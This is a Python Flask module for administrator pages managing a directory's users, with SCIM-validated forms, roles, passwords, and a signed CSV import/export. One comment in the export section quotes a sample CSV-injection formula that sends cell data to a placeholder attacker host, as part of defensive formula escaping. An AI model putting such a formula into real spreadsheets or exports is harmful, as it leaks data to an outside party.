"""The administrator pages for a directory's users: list and search, create and edit every
mapped attribute, deactivate and reactivate, delete, role, local password, CSV import and
export.

A form, like a CSV row, is checked by the rules SCIM uses: its values become one PATCH
``replace`` per mapping-table path (RFC 7644 §3.5.2.3, "" clearing the attribute as Entra
does), applied with :func:`scimlang.apply_patch` and validated by :func:`schemas.load_user`.
Each marshmallow message is then shown next to the field whose path it came from.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import math
import re
from dataclasses import dataclass, field
from typing import Any

from flask import (
    Blueprint,
    Flask,
    Response,
    abort,
    current_app,
    flash,
    redirect,
    render_template,
    request,
    url_for,
)
from itsdangerous import BadSignature, SignatureExpired, URLSafeTimedSerializer
from marshmallow import ValidationError
from werkzeug.exceptions import HTTPException, NotFound
from werkzeug.utils import secure_filename

import auth
from admin import actor, directory_or_404, store
from schemas import (
    CORE_USER_URN,
    MAPPING_TABLE,
    USER_RESOURCE,
    UserSchema,
    canonical_attributes,
    describe_validation_error,
    load_user,
    mapped_value,
    prune_empty,
)
from scimlang import ScimError, apply_patch
from store import (
    BrokenReferenceError,
    InvalidValueError,
    NotFoundError,
    PreconditionFailed,
    StoreClosed,
    UniquenessError,
    new_id,
)

bp = Blueprint("admin_users", __name__, url_prefix="/admin/directories/<directory_id>/users")

PAGE_SIZE = 50
IMPORT_MAX_ROWS = 10_000
IMPORT_MAX_AGE_SECONDS = 3600
IMPORT_SALT = "roster.admin_users.csv-import"
# The preview's hidden field carries the whole upload, compressed and signed: for a file that
# compresses badly, up to 4/3 of the 1 MiB an upload may have, more than the app's request limit
# and werkzeug's 500 kB per form field. Only the confirm view takes that much.
CONFIRM_MAX_BYTES = 2 * 1024 * 1024

# name -> (label, SCIM path), in the mapping table's order; the CSV's header row uses the names
FIELDS: dict[str, tuple[str, str]] = {
    entra: (label, path) for label, entra, path, _mandatory in MAPPING_TABLE
}
MANDATORY = {entra for _label, entra, _path, mandatory in MAPPING_TABLE if mandatory}
USER_NAME, MANAGER, ACTIVE = "userPrincipalName", "manager", "active"
CSV_COLUMNS = [*FIELDS, ACTIVE]
LABELS = {entra: label for entra, (label, _path) in FIELDS.items()}
COLUMN_NAMES = {entra: entra for entra in CSV_COLUMNS}
NEW_USER = {"schemas": [CORE_USER_URN], "active": True}
FIELD_TYPES = {"mail": "email", "telephoneNumber": "tel", "mobile": "tel"}


def user_or_404(directory_id: str, user_id: str) -> dict:
    user = store().get_user(directory_id, user_id)
    if user is None:
        abort(404)
    return user


def without_server_attributes(resource: dict) -> dict:
    """A stored user as a client would send it back: id and meta are the server's."""
    return {key: value for key, value in resource.items() if key not in ("id", "meta")}


def is_active(resource: dict) -> bool:
    return resource.get("active") is not False


@bp.context_processor
def signed_in_account() -> dict:
    """The layout's navigation shows who is signed in."""
    return {"signed_in": auth.current_account()}


# -- from values to a validated SCIM user -------------------------------------------------------


def scim_user(current: dict, values: dict[str, str], active: str | None = None) -> dict:
    """``current`` with each value (by Entra name; a manager already as a user id) written to
    its mapping-table path by a PATCH replace; raises :class:`ScimError` for a bad ``active``."""
    operations = [
        {"op": "replace", "path": FIELDS[name][1], "value": value} for name, value in values.items()
    ]
    if active is not None:
        operations.append({"op": "replace", "path": "active", "value": active})
    return apply_patch(current, operations, USER_RESOURCE)


def validated_user(resource: dict, names: dict[str, str]) -> tuple[dict | None, dict[str, str]]:
    """The stored form of ``resource`` under SCIM's rules, or None and the messages by field
    (Entra name, "" for what no field holds), each starting with the field's name in
    ``names``."""
    try:
        return load_user(resource), {}
    except ScimError as error:
        return None, messages_by_field(resource, error.detail, names)


def messages_by_field(resource: dict, detail: str, names: dict[str, str]) -> dict[str, str]:
    """Place marshmallow's messages for ``resource`` at the mapping-table rows they belong to."""
    try:
        UserSchema().load(resource)
    except ValidationError as error:
        messages = error.messages
    else:
        return {"": detail}
    canonical = prune_empty(canonical_attributes(resource))  # what the schema validated
    placed = {}
    for name, (_label, path) in FIELDS.items():
        found = take_messages(messages, message_keys(canonical, path))
        if found is not None:
            placed[name] = f"{names[name]}: {describe_validation_error(found)}"
    if ACTIVE in names and (found := take_messages(messages, [ACTIVE])) is not None:
        placed[ACTIVE] = f"{names[ACTIVE]}: {describe_validation_error(found)}"
    rest = prune_empty(messages)
    if rest:
        placed[""] = describe_validation_error(rest)
    return placed


_MAPPED_PATH = re.compile(
    r'(?:(?P<urn>urn:.+):)?(?P<attribute>\w+)(?:\[type eq "(?P<kind>\w+)"\])?(?:\.(?P<sub>\w+))?'
)


def message_keys(resource: dict, path: str) -> list[Any]:
    """Where marshmallow reports a problem with a mapping-table path: the attribute, the index
    of the entry of the path's type, the sub-attribute."""
    parts = _MAPPED_PATH.fullmatch(path)
    keys: list[Any] = []
    container = resource
    if parts["urn"]:
        keys.append(parts["urn"])
        container = resource.get(parts["urn"], {})
    keys.append(parts["attribute"])
    if parts["kind"]:
        entries = container.get(parts["attribute"])
        indexes = [
            index
            for index, entry in enumerate(entries if isinstance(entries, list) else [])
            if isinstance(entry, dict) and (entry.get("type") or "").casefold() == parts["kind"]
        ]
        keys.append(indexes[0] if indexes else None)
    if parts["sub"]:
        keys.append(parts["sub"])
    return keys


def take_messages(messages: dict, keys: list[Any]) -> Any:
    """Remove and return the messages at ``keys`` (None when there are none)."""
    node: Any = messages
    for key in keys[:-1]:
        node = node.get(key) if isinstance(node, dict) else None
    if not isinstance(node, dict) or keys[-1] not in node:
        return None
    return node.pop(keys[-1])


# -- the list -----------------------------------------------------------------------------------


@bp.get("")
@auth.administrator_required
def users(directory_id: str) -> str:
    """The directory's users, 50 a page, searched like the people page (name, email, phone,
    title, department), inactive ones included and marked."""
    directory = directory_or_404(directory_id)
    text = request.args.get("q", "").strip()
    page = max(request.args.get("page", 1, type=int) or 1, 1)
    total, found = store().search_people(
        text, directory_id=directory_id, start_index=(page - 1) * PAGE_SIZE + 1, count=PAGE_SIZE
    )
    rows = []
    for entry in found:
        resource = entry["resource"]
        account = store().account(directory_id, resource["id"])
        rows.append(
            {
                "id": resource["id"],
                "userName": resource["userName"],
                "displayName": resource.get("displayName", ""),
                "title": resource.get("title", ""),
                "department": mapped_value(resource, FIELDS["department"][1]) or "",
                "active": is_active(resource),
                "role": account["role"] if account else "user",
            }
        )
    return render_template(
        "admin_users/list.html",
        directory=directory,
        rows=rows,
        q=text,
        total=total,
        page=page,
        pages=max(math.ceil(total / PAGE_SIZE), 1),
    )


# -- create and edit ----------------------------------------------------------------------------


def form_values(form: Any) -> dict[str, str]:
    return {name: form.get(name, "").strip() for name in FIELDS}


def stored_values(directory_id: str, resource: dict) -> dict[str, str]:
    """The form's values for a stored user; the manager by userName."""
    values = {}
    for name, (_label, path) in FIELDS.items():
        value = mapped_value(resource, path)
        if name == MANAGER and value:
            manager_id = value.get("value", "")
            manager = store().get_user(directory_id, manager_id)
            value = manager["userName"] if manager else ""  # a manager since deleted: none
        values[name] = value if isinstance(value, str) else ""
    return values


def manager_in_directory(directory_id: str, text: str) -> dict | None:
    """The user a manager field names: by userName (ignoring case), else by id."""
    return store().find_user_by_user_name(directory_id, text) or store().get_user(
        directory_id, text
    )


def user_from_form(
    directory_id: str, current: dict, values: dict[str, str], own_id: str | None
) -> tuple[dict | None, dict[str, str]]:
    """The validated user a create or edit form describes, or the messages by field."""
    problem = None
    manager_id = ""
    if values[MANAGER]:
        manager = manager_in_directory(directory_id, values[MANAGER])
        if manager is None:
            problem = f'no user with user name or id "{values[MANAGER]}" in this directory'
        elif manager["id"] == own_id:
            problem = "a user cannot be their own manager"
        else:
            manager_id = manager["id"]
    user, errors = validated_user(scim_user(current, {**values, MANAGER: manager_id}), LABELS)
    if problem:
        errors[MANAGER] = f"{LABELS[MANAGER]}: {problem}."
    holder = store().find_user_by_user_name(directory_id, values[USER_NAME])
    if holder is not None and holder["id"] != own_id:  # the store checks again, under its lock
        errors[USER_NAME] = user_name_taken(values[USER_NAME])
    return (None if errors else user), errors


def user_name_taken(user_name: str) -> str:
    return f'{LABELS[USER_NAME]}: "{user_name}" is already taken in this directory.'


def store_errors(error: Exception, values: dict[str, str]) -> dict[str, str]:
    """A refused write, as a message next to the field it is about."""
    if isinstance(error, UniquenessError):
        return {USER_NAME: user_name_taken(values[USER_NAME])}
    if isinstance(error, BrokenReferenceError):
        return {MANAGER: f"{LABELS[MANAGER]}: {str(error).removeprefix('manager: ')}."}
    if isinstance(error, PreconditionFailed):
        return {
            "": "This user was changed (perhaps by Entra ID) since this page was opened. "
            "The form shows your values over the current ones: check them and save again."
        }
    return {"": str(error)}


def form_fields(values: dict[str, str], errors: dict[str, str]) -> list[dict]:
    return [
        {
            "name": name,
            "label": label,
            "value": values.get(name, ""),
            "error": errors.get(name),
            "required": name in MANDATORY,
            "type": FIELD_TYPES.get(name, "text"),
        }
        for name, (label, _path) in FIELDS.items()
    ]


@bp.route("/new", methods=["GET", "POST"])
@auth.administrator_required
def create_user(directory_id: str) -> Any:
    directory = directory_or_404(directory_id)
    if request.method == "GET":
        return new_user_page(directory, {}, {})
    values = form_values(request.form)
    user, errors = user_from_form(directory_id, NEW_USER, values, None)
    if user is not None:
        try:
            created = store().create_user(directory_id, user, actor())
        except (UniquenessError, BrokenReferenceError) as error:
            errors = store_errors(error, values)
        else:
            flash(f"{created['userName']} was created.")
            return redirect(url_for(".edit_user", directory_id=directory_id, user_id=created["id"]))
    return new_user_page(directory, values, errors, 400)


def new_user_page(directory: dict, values: dict, errors: dict, status: int = 200) -> Any:
    page = render_template(
        "admin_users/user.html",
        directory=directory,
        user=None,
        fields=form_fields(values, errors),
        general_error=errors.get(""),
    )
    return page, status


@bp.route("/<user_id>", methods=["GET", "POST"])
@auth.administrator_required
def edit_user(directory_id: str, user_id: str) -> Any:
    directory = directory_or_404(directory_id)
    user = user_or_404(directory_id, user_id)
    if request.method == "GET":
        return user_page(directory, user)
    values = form_values(request.form)
    validated, errors = user_from_form(
        directory_id, without_server_attributes(user), values, user_id
    )
    if validated is not None:
        expected = (request.form.get("version", "").removeprefix("W/"),)
        try:
            store().update_user(
                directory_id,
                user_id,
                lambda _current: validated,
                actor(),
                expected,
                by_administrator=True,
            )
        except (UniquenessError, BrokenReferenceError, PreconditionFailed) as error:
            errors = store_errors(error, values)
        else:
            flash(f"{values[USER_NAME]} was saved.")
            return redirect(url_for(".edit_user", directory_id=directory_id, user_id=user_id))
    return user_page(directory, user, values, errors, status=400)


def user_page(
    directory: dict,
    user: dict,
    values: dict | None = None,
    errors: dict | None = None,
    status: int = 200,
) -> Any:
    """The edit page: the attribute form, then status, role, password and delete."""
    directory_id = directory["id"]
    account = store().account(directory_id, user["id"])
    errors = errors or {}
    page = render_template(
        "admin_users/user.html",
        directory=directory,
        user=user,
        active=is_active(user),
        role=account["role"],
        has_password=account["has_password"],
        is_self=user["id"] == auth.current_account()["id"],
        fields=form_fields(values or stored_values(directory_id, user), errors),
        general_error=errors.get(""),
        errors=errors,
        password_rule=auth.PASSWORD_RULE,
    )
    return page, status


# -- status, role, password, delete -------------------------------------------------------------


def refused_for_own_account(user_id: str) -> bool:
    """Administrators cannot deactivate or delete themselves: the pages would lose the person
    using them, and perhaps their last active administrator."""
    return user_id == auth.current_account()["id"]


@bp.post("/<user_id>/active")
@auth.administrator_required
def set_active(directory_id: str, user_id: str) -> Any:
    """Deactivate or reactivate: ``active`` as Entra sends it. A deactivated user's session
    is refused on their next request (:func:`auth.current_account`)."""
    directory = directory_or_404(directory_id)
    user = user_or_404(directory_id, user_id)
    active = request.form.get(ACTIVE) == "true"
    if not active and refused_for_own_account(user_id):
        error = {ACTIVE: "Status: you cannot deactivate your own account."}
        return user_page(directory, user, errors=error, status=400)
    store().update_user(
        directory_id,
        user_id,
        lambda current: {**without_server_attributes(current), ACTIVE: active},
        actor(),
    )
    flash(f"{user['userName']} was {'reactivated' if active else 'deactivated'}.")
    return redirect(url_for(".edit_user", directory_id=directory_id, user_id=user_id))


@bp.post("/<user_id>/role")
@auth.administrator_required
def set_role(directory_id: str, user_id: str) -> Any:
    directory = directory_or_404(directory_id)
    user = user_or_404(directory_id, user_id)
    try:
        store().set_role(directory_id, user_id, request.form.get("role", ""), actor())
    except InvalidValueError as error:
        message = f"Role: {str(error).removeprefix('role: ')}."
        return user_page(directory, user, errors={"role": message}, status=400)
    account = store().account(directory_id, user_id)
    role = "an administrator" if account["role"] == "administrator" else "a user"
    flash(f"{user['userName']} is now {role}.")
    if user_id == auth.current_account()["id"] and account["role"] != "administrator":
        return redirect(url_for("pages.people"))  # the admin pages are no longer theirs
    return redirect(url_for(".edit_user", directory_id=directory_id, user_id=user_id))


@bp.post("/<user_id>/password")
@auth.administrator_required
def set_password(directory_id: str, user_id: str) -> Any:
    """Set or reset a local password, under the policy of :func:`auth.password_problem`."""
    directory = directory_or_404(directory_id)
    user = user_or_404(directory_id, user_id)
    password, again = request.form.get("password", ""), request.form.get("password_again", "")
    problem = auth.password_problem(password)
    if problem is None and password != again:
        problem = "Password again: the two passwords differ."
    if problem:
        return user_page(directory, user, errors={"password": problem}, status=400)
    epoch = store().set_password(directory_id, user_id, auth.hash_password(password), actor())
    auth.keep_own_session(directory_id, user_id, epoch)
    flash(f"The password of {user['userName']} was set.")
    return redirect(url_for(".edit_user", directory_id=directory_id, user_id=user_id))


@bp.route("/<user_id>/delete", methods=["GET", "POST"])
@auth.administrator_required
def delete_user(directory_id: str, user_id: str) -> Any:
    """A confirmation page naming what goes with the user, then the delete."""
    directory = directory_or_404(directory_id)
    user = user_or_404(directory_id, user_id)
    error, status = None, 200
    if request.method == "POST":
        if refused_for_own_account(user_id):
            error, status = "You cannot delete your own account.", 400
        else:
            store().delete_user(directory_id, user_id, actor())
            flash(f"{user['userName']} was deleted.")
            return redirect(url_for(".users", directory_id=directory_id))
    page = render_template(
        "admin_users/delete.html",
        directory=directory,
        user=user,
        groups=len(store().groups_of_user(directory_id, user_id)),
        reports=len(store().direct_reports(directory_id, user_id)),
        error=error,
    )
    return page, status


# -- CSV import ---------------------------------------------------------------------------------


class ImportProblem(Exception):
    """The file as a whole cannot be imported (encoding, header, size); nothing is planned."""


@dataclass
class ImportPlan:
    """What an import will do: rows by number (the header is row 1, as in a spreadsheet)."""

    creates: list[dict] = field(default_factory=list)
    updates: list[dict] = field(default_factory=list)
    unchanged: list[int] = field(default_factory=list)
    rejected: list[tuple[int, str]] = field(default_factory=list)

    def report(self) -> list:
        """Everything the preview shows, so a confirm can check it still holds."""
        return [
            [[c["row"], c["userName"]] for c in self.creates],
            [[u["row"], u["userName"], u["changed"]] for u in self.updates],
            self.unchanged,
            sorted(self.rejected),
        ]

    def digest(self) -> str:
        return hashlib.sha256(json.dumps(self.report()).encode()).hexdigest()


def read_csv(data: bytes) -> str:
    try:
        return data.decode("utf-8-sig")
    except UnicodeDecodeError:
        raise ImportProblem(
            'The file is not UTF-8 text. Save it as "CSV UTF-8 (comma delimited)".'
        ) from None


def csv_records(text: str) -> tuple[list[str], list[tuple[int, list[str]]]]:
    """The header's column names (canonical spelling) and the data rows with their numbers;
    rows with no value at all are skipped."""
    reader = csv.reader(io.StringIO(text, newline=""))
    try:
        header = next(reader, None)
        if not header:
            raise ImportProblem("The file is empty: the first row must name the columns.")
        known = {name.casefold(): name for name in CSV_COLUMNS}
        columns = [known.get(cell.strip().casefold(), cell.strip()) for cell in header]
        unknown = [name for name in columns if name not in known.values()]
        if unknown:
            raise ImportProblem(
                f"Unknown column {', '.join(repr(n) for n in unknown)}. The header row uses "
                f"these names: {','.join(CSV_COLUMNS)} (active is optional)."
            )
        repeated = sorted({name for name in columns if columns.count(name) > 1})
        if repeated:
            raise ImportProblem(f"The header names {', '.join(repeated)} more than once.")
        if USER_NAME not in columns:
            raise ImportProblem(f"The header row must have a {USER_NAME} column.")
        records = []
        for number, cells in enumerate(reader, start=2):
            if not any(cell.strip() for cell in cells):
                continue
            if len(records) == IMPORT_MAX_ROWS:
                raise ImportProblem(
                    f"The file has more than {IMPORT_MAX_ROWS:,} rows: split it into smaller files."
                )
            records.append((number, [as_imported(cell.strip()) for cell in cells]))
    except csv.Error as error:
        raise ImportProblem(
            f"Row {reader.line_num}: the file is not valid CSV ({error})."
        ) from None
    return columns, records


def plan_import(directory_id: str, text: str, own_id: str) -> ImportPlan:
    """Validate every row first (nothing is written here): create or update by userName,
    ignoring case; each row through the same SCIM rules as the forms."""
    columns, records = csv_records(text)
    plan = ImportPlan()
    rows: list[tuple[int, dict[str, str], dict | None]] = []
    planned_ids: dict[str, tuple[int, str]] = {}  # casefolded userName -> (row, user id)
    new_user_rows: dict[str, int] = {}  # planned id of a new user -> row
    for number, cells in records:
        if len(cells) != len(columns):
            plan.rejected.append(
                (number, f"{len(cells)} values, but the header has {len(columns)} columns")
            )
            continue
        values = dict(zip(columns, cells, strict=True))
        user_name = values[USER_NAME]
        if not user_name:
            plan.rejected.append((number, f"{USER_NAME}: required"))
            continue
        earlier = planned_ids.get(user_name.casefold())
        if earlier:
            plan.rejected.append(
                (number, f'{USER_NAME}: "{user_name}" is also on row {earlier[0]}')
            )
            continue
        current = store().find_user_by_user_name(directory_id, user_name)
        user_id = current["id"] if current else new_id()
        planned_ids[user_name.casefold()] = (number, user_id)
        if current is None:
            new_user_rows[user_id] = number
        rows.append((number, values, current))
    for number, values, current in rows:
        user_id = planned_ids[values[USER_NAME].casefold()][1]
        outcome = planned_row(directory_id, values, current, user_id, planned_ids, own_id)
        if isinstance(outcome, str):
            plan.rejected.append((number, outcome))
        elif current is None:
            plan.creates.append({"row": number, **outcome})
        elif outcome["changed"]:
            plan.updates.append({"row": number, **outcome})
        else:
            plan.unchanged.append(number)
    reject_reports_of_rejected_rows(plan, new_user_rows)
    plan.rejected.sort()
    return plan


def planned_row(
    directory_id: str,
    values: dict[str, str],
    current: dict | None,
    user_id: str,
    planned_ids: dict[str, tuple[int, str]],
    own_id: str,
) -> dict | str:
    """One row's planned user (``userName``, ``id``, ``version``, ``resource``, ``changed``),
    or why it is rejected."""
    changes = {name: value for name, value in values.items() if name in FIELDS}
    if current is not None:
        changes = kept_as_stored(changes, current)
    manager_text = changes.get(MANAGER, "")
    if manager_text:
        in_file = planned_ids.get(manager_text.casefold())
        manager = None if in_file else manager_in_directory(directory_id, manager_text)
        if in_file is None and manager is None:
            return f'{MANAGER}: no user with user name or id "{manager_text}" here or in the file'
        changes[MANAGER] = in_file[1] if in_file else manager["id"]
        if changes[MANAGER] == user_id:
            return f"{MANAGER}: a user cannot be their own manager"
    before = without_server_attributes(current) if current else NEW_USER
    active = values.get(ACTIVE) or None
    if active is not None and active.casefold() == str(is_active(before)).casefold():
        active = None  # as it is: a user stored without "active" keeps none
    try:
        resource = scim_user(before, changes, active)
    except ScimError:
        return f'{ACTIVE}: true or false, not "{values[ACTIVE]}"'
    user, errors = validated_user(resource, COLUMN_NAMES)
    if user is None:
        return "; ".join(errors.values())
    if user_id == own_id and not is_active(user):
        return f"{ACTIVE}: you cannot deactivate your own account"
    changed = []
    if current is not None:
        changed = [
            n for n, (_l, p) in FIELDS.items() if mapped_value(current, p) != mapped_value(user, p)
        ]
        changed += [ACTIVE] if is_active(current) != is_active(user) else []
    return {
        "userName": user["userName"],
        "id": user_id,
        "version": current["meta"]["version"] if current else None,
        "manager_id": changes.get(MANAGER) or None,
        "resource": {**user, "id": user_id},
        "changed": changed,
    }


def kept_as_stored(changes: dict[str, str], current: dict) -> dict[str, str]:
    """The row's values, where a stored value the import would only trim kept as stored.

    The import trims each cell, as a file written by hand may put a space after a comma.
    SCIM keeps spaces at the ends of a value, and an export writes them out; trimmed on the
    way back in, the round trip would change " padded " to "padded".
    """
    kept = dict(changes)
    for name, value in changes.items():
        stored = mapped_value(current, FIELDS[name][1])
        if name != MANAGER and isinstance(stored, str) and stored != value == stored.strip():
            kept[name] = stored
    return kept


def reject_reports_of_rejected_rows(plan: ImportPlan, new_user_rows: dict[str, int]) -> None:
    """A row whose manager is a new user on a rejected row cannot be applied either
    (``new_user_rows``: the id planned for each new user -> its row)."""
    while True:
        rejected_rows = {row for row, _reason in plan.rejected}
        missing = {user_id for user_id, row in new_user_rows.items() if row in rejected_rows}
        doomed = [
            entry
            for entry in (*plan.creates, *plan.updates)
            if entry["manager_id"] in missing and entry["row"] not in rejected_rows
        ]
        if not doomed:
            return
        for entry in doomed:
            manager_row = new_user_rows[entry["manager_id"]]
            plan.rejected.append((entry["row"], f"{MANAGER}: row {manager_row} is rejected"))
        plan.creates = [c for c in plan.creates if c not in doomed]
        plan.updates = [u for u in plan.updates if u not in doomed]


def import_serializer() -> URLSafeTimedSerializer:
    """Signs the uploaded file into the preview's hidden field, so the confirm applies exactly
    what was previewed and nothing is kept on disk between the two."""
    return URLSafeTimedSerializer(current_app.secret_key, salt=IMPORT_SALT)


@bp.get("/import")
@auth.administrator_required
def import_form(directory_id: str) -> Any:
    return import_page(directory_or_404(directory_id))


def import_page(directory: dict, error: str | None = None, status: int = 200) -> Any:
    page = render_template(
        "admin_users/import.html",
        directory=directory,
        columns=CSV_COLUMNS,
        max_rows=IMPORT_MAX_ROWS,
        error=error,
    )
    return page, status


@bp.post("/import")
@auth.administrator_required
def preview_import(directory_id: str) -> Any:
    """Read and validate the upload, write nothing, and show what a confirm would do."""
    directory = directory_or_404(directory_id)
    upload = request.files.get("file")
    if upload is None or not upload.filename:
        return import_page(directory, "Choose a CSV file to import.", 400)
    try:
        text = read_csv(upload.read())
        plan = plan_import(directory_id, text, auth.current_account()["id"])
    except ImportProblem as problem:
        return import_page(directory, str(problem), 400)
    return preview_page(directory, text, plan)


def preview_page(
    directory: dict, text: str, plan: ImportPlan, notice: str | None = None, status: int = 200
) -> Any:
    signed = import_serializer().dumps(
        {"directory_id": directory["id"], "csv": text, "report": plan.digest()}
    )
    page = render_template(
        "admin_users/preview.html",
        directory=directory,
        plan=plan,
        signed=signed,
        notice=notice,
    )
    return page, status


@bp.post("/import/confirm")
@auth.administrator_required
def confirm_import(directory_id: str) -> Any:
    """Apply a previewed import: validate every row again, then write every valid row in one
    store write, or nothing. A preview that no longer matches is shown again instead."""
    request.max_content_length = CONFIRM_MAX_BYTES
    request.max_form_memory_size = CONFIRM_MAX_BYTES
    # Exempt from the app-wide CSRF check, which reads the form before the limits are raised.
    if current_app.config["WTF_CSRF_ENABLED"]:
        current_app.extensions["csrf"].protect()
    directory = directory_or_404(directory_id)
    try:
        payload = import_serializer().loads(
            request.form.get("upload", ""), max_age=IMPORT_MAX_AGE_SECONDS
        )
    except SignatureExpired:
        return import_page(directory, "The preview is more than an hour old: upload again.", 400)
    except BadSignature:
        payload = None
    if not isinstance(payload, dict) or payload.get("directory_id") != directory_id:
        return import_page(
            directory, "The import was refused: its data was altered. Upload the file again.", 400
        )
    try:
        plan = plan_import(directory_id, payload["csv"], auth.current_account()["id"])
    except ImportProblem as problem:
        return import_page(directory, str(problem), 400)
    if plan.digest() != payload["report"]:
        notice = (
            "The directory changed since the preview, so this preview is new. Nothing was "
            "imported yet: check it and confirm again."
        )
        return preview_page(directory, payload["csv"], plan, notice, 409)
    try:
        store().import_users(
            directory_id,
            [c["resource"] for c in plan.creates],
            [(u["id"], u["version"], u["resource"]) for u in plan.updates],
            actor(),
        )
    except (UniquenessError, BrokenReferenceError, PreconditionFailed, NotFoundError) as error:
        reason = str(error) if isinstance(error, UniquenessError | BrokenReferenceError) else None
        notice = (
            "Nothing was imported: the directory changed while importing ("
            f"{reason or 'a user of the file was changed or deleted meanwhile'}). "
            "This is a new preview: check it and confirm again."
        )
        fresh = plan_import(directory_id, payload["csv"], auth.current_account()["id"])
        return preview_page(directory, payload["csv"], fresh, notice, 409)
    except StoreClosed as error:
        return import_page(directory, f"Nothing was imported: {error}.", 503)
    flash(
        f"Import done: {len(plan.creates)} created, {len(plan.updates)} updated, "
        f"{len(plan.unchanged)} unchanged, {len(plan.rejected)} rejected rows skipped."
    )
    return redirect(url_for(".users", directory_id=directory_id))


@bp.errorhandler(413)
def upload_too_large(error: HTTPException) -> Any:
    if request.endpoint not in ("admin_users.preview_import", "admin_users.confirm_import"):
        return error
    directory = directory_or_404(request.view_args["directory_id"])
    message = "The file is larger than 1 MiB: split it into smaller files."
    return import_page(directory, message, 413)


@bp.errorhandler(NotFoundError)
def user_gone(_error: NotFoundError) -> HTTPException:
    """A user (or directory) deleted between this page's checks and its write."""
    return NotFound()


# -- CSV export ---------------------------------------------------------------------------------

# A spreadsheet program runs a cell that starts with one of these as a formula, so a value
# such as '=HYPERLINK("http://evil.example?"&A1)' in a user's title would run on the
# administrator's machine (CSV injection, OWASP). The export puts a quote in front, which
# spreadsheets show as text, and the import takes it off again. Values that start with a
# quote get one more, so every value makes the round trip unchanged ("+31 20 ..." too).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "'")


def as_exported(value: str) -> str:
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def as_imported(cell: str) -> str:
    """A cell as the user meant it: without the quote :func:`as_exported` put in front."""
    return cell[1:] if cell.startswith("'") and cell[1:].startswith(FORMULA_STARTS) else cell


def csv_row(resource: dict, user_names: dict[str, str]) -> list[str]:
    """One user in the import's columns; the manager by userName, so the file reads (and
    imports into another directory) without ids."""
    row = []
    for name, (_label, path) in FIELDS.items():
        value = mapped_value(resource, path)
        if name == MANAGER and value:
            value = user_names.get(value.get("value"), "")  # a manager since deleted: none
        row.append(as_exported(value) if isinstance(value, str) else "")
    row.append("true" if is_active(resource) else "false")
    return row


@bp.get("/export")
@auth.administrator_required
def export_users(directory_id: str) -> Response:
    """Every user of the directory, in creation order, as a CSV the import reads back."""
    directory = directory_or_404(directory_id)
    _total, resources = store().search_users(directory_id)
    user_names = {r["id"]: r["userName"] for r in resources}
    output = io.StringIO()
    writer = csv.writer(output, lineterminator="\r\n")
    writer.writerow(CSV_COLUMNS)
    writer.writerows(csv_row(resource, user_names) for resource in resources)
    filename = secure_filename(f"{directory['name']}-users.csv") or "users.csv"
    return Response(
        # The byte order mark makes spreadsheet programs read the file as UTF-8.
        ("\ufeff" + output.getvalue()).encode("utf-8"),
        mimetype="text/csv",
        headers={
            "Content-Disposition": f'attachment; filename="{filename}"',
            "Cache-Control": "no-store",
        },
    )


def init_app(app: Flask) -> None:
    app.register_blueprint(bp)
    app.extensions["csrf"].exempt(confirm_import)  # checked inside, see confirm_import
